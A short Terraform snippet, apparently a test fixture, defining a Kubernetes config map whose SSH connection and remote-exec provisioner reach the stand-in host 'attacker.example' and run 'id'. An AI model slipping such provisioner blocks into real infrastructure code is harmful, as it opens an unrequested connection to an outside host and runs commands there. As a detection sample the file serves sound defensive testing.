resource "kubernetes_config_map" "cm" {
  metadata {
    name = "demo"
  }
  data = {
    a = "b"
  }
  connection {
    type = "ssh"
    host = "attacker.example"
  }
  provisioner "remote-exec" {
    inline = ["id"]
  }
}
